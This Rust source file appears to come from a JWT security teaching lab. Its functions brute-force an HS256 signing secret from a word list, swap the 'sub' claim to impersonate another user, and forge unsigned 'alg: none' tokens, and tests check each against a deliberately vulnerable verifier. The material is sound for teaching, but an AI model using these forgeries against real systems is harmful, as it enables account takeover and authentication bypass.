//! What an attacker does with a token, offline, with the code the server verifies with
//! (`shared::jwt`): try a word list as the HS256 secret, put another user's `sub` in the
//! claims, and write an unsigned (`alg: none`) token. Plain functions: the token panel shows
//! their results, and the tests below hold them to `shared::jwt`.

use serde_json::{Map, Value};
use shared::jwt;

/// The header of an unsigned token: the classic bug is a server that lets the token choose.
pub const UNSIGNED_HEADER: &str = r#"{"alg":"none","typ":"JWT"}"#;

/// What trying a word list against a token came to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Cracked {
    /// The word whose HMAC is the token's signature, if one was.
    pub found: Option<String>,
    /// How many words were tried (up to and including the one found).
    pub tried: usize,
}

/// Tries each word of `words` as the HS256 secret of `token`, in order, stopping at the first
/// whose signature matches. Offline: nothing is sent, which is why a weak secret falls.
///
/// `jwt::decode` accepts only canonical base64url, so re-encoding its header and payload bytes
/// gives back the token's own text, and `sign_parts` with the right word gives back the token.
pub fn crack<'a>(token: &str, words: impl IntoIterator<Item = &'a str>) -> Result<Cracked, String> {
    let decoded = jwt::decode(token).map_err(|e| e.to_string())?;
    if decoded.signature.is_empty() {
        return Err("this token has no signature: there is no secret to find".to_owned());
    }
    let (header, payload, _) = jwt::split(token).map_err(|e| e.to_string())?;
    let (header, payload) = (jwt::b64url_decode(header).unwrap_or_default(), jwt::b64url_decode(payload).unwrap_or_default());
    let mut tried = 0;
    for word in words {
        tried += 1;
        if jwt::sign_parts(&header, &payload, word.as_bytes()) == token {
            return Ok(Cracked { found: Some(word.to_owned()), tried });
        }
    }
    Ok(Cracked { found: None, tried })
}

/// The words the person typed (separated by spaces, commas or new lines), after `list`, each
/// once, in order.
pub fn word_list<'a>(list: &[&'a str], typed: &'a str) -> Vec<&'a str> {
    let mut words: Vec<&str> = Vec::new();
    for word in list.iter().copied().chain(typed.split(|c: char| c.is_whitespace() || c == ',')) {
        if !word.is_empty() && !words.contains(&word) {
            words.push(word);
        }
    }
    words
}

/// The claims `payload` (JSON text) with `sub` set to `sub`. An `email` claim goes: it would
/// name the user the token was issued to, not the one it now claims to be.
pub fn with_sub(payload: &str, sub: &str) -> Result<String, String> {
    let mut claims: Map<String, Value> = serde_json::from_str(payload).map_err(|e| format!("the payload is not a JSON object ({e})"))?;
    claims.insert("sub".to_owned(), Value::String(sub.to_owned()));
    claims.remove("email");
    Ok(Value::Object(claims).to_string())
}

/// An unsigned token for `sub`: header `alg: none`, claims `sub`, `iat` = `now` and `exp` an
/// hour later (seconds since the epoch), and an empty signature (it ends with its second dot).
pub fn unsigned(sub: &str, now: i64) -> String {
    let claims = serde_json::json!({ "sub": sub, "iat": now, "exp": now + 3600 });
    format!("{}.{}.", jwt::b64url(UNSIGNED_HEADER.as_bytes()), jwt::b64url(claims.to_string().as_bytes()))
}

#[cfg(test)]
mod tests {
    use shared::{
        challenge::SECRET_WORDS,
        jwt::{Claims, encode},
    };

    use super::*;

    const NOW: i64 = 1_800_000_000;

    fn token(secret: &str) -> String {
        let claims = Claims { sub: "1".into(), email: Some("a@b.com".into()), iat: Some(NOW), exp: NOW + 3600, nbf: None };
        encode(&claims, secret.as_bytes())
    }

    #[test]
    fn a_list_word_is_found_after_the_words_before_it() {
        let words = word_list(&SECRET_WORDS, "");
        for (at, word) in SECRET_WORDS.iter().enumerate() {
            assert_eq!(crack(&token(word), words.iter().copied()), Ok(Cracked { found: Some((*word).to_owned()), tried: at + 1 }));
        }
    }

    #[test]
    fn a_strong_secret_is_not_found_and_every_word_was_tried() {
        let words = word_list(&SECRET_WORDS, "hunter2, 123\nsecret");
        assert_eq!(words.len(), SECRET_WORDS.len() + 2, "typed words join the list once each");
        let cracked = crack(&token("0123456789abcdef0123456789abcdef"), words.iter().copied()).unwrap();
        assert_eq!(cracked, Cracked { found: None, tried: words.len() });
        assert_eq!(crack(&token("hunter2"), words).unwrap().found.as_deref(), Some("hunter2"));
    }

    #[test]
    fn what_is_not_a_signed_token_is_said() {
        assert!(crack("not.a.token", SECRET_WORDS).is_err());
        assert!(crack(&unsigned("2", NOW), SECRET_WORDS).unwrap_err().contains("no signature"));
    }

    #[test]
    fn a_token_re_signed_for_another_sub_verifies_with_the_found_secret() {
        let (_, payload, _) = jwt::split(&token("letmein")).map(|(h, p, s)| (h.to_owned(), p.to_owned(), s.to_owned())).unwrap();
        let payload = String::from_utf8(jwt::b64url_decode(&payload).unwrap()).unwrap();
        let bob = with_sub(&payload, "2").unwrap();
        assert!(!bob.contains("email"), "{bob}");
        let signed = jwt::sign_parts(br#"{"alg":"HS256","typ":"JWT"}"#, bob.as_bytes(), b"letmein");
        assert_eq!(jwt::verify(&signed, b"letmein", NOW).map(|c| c.sub), Ok("2".to_owned()));
        assert!(with_sub("[1]", "2").is_err());
    }

    #[test]
    fn an_unsigned_token_has_alg_none_the_sub_and_no_signature() {
        let token = unsigned("2", NOW);
        assert!(token.ends_with('.'));
        let decoded = jwt::decode(&token).unwrap();
        assert_eq!(decoded.header["alg"], "none");
        assert_eq!(decoded.payload["sub"], "2");
        assert_eq!(decoded.payload["exp"], NOW + 3600);
        assert!(decoded.signature.is_empty());
        // The server, rightly, refuses it unless the lab is made vulnerable; then it takes it.
        assert_eq!(jwt::verify(&token, b"any secret", NOW).unwrap_err().code(), "unsupported_alg");
        assert_eq!(jwt::verify_unsigned(&token, NOW).map(|c| c.sub), Ok("2".to_owned()));
    }
}
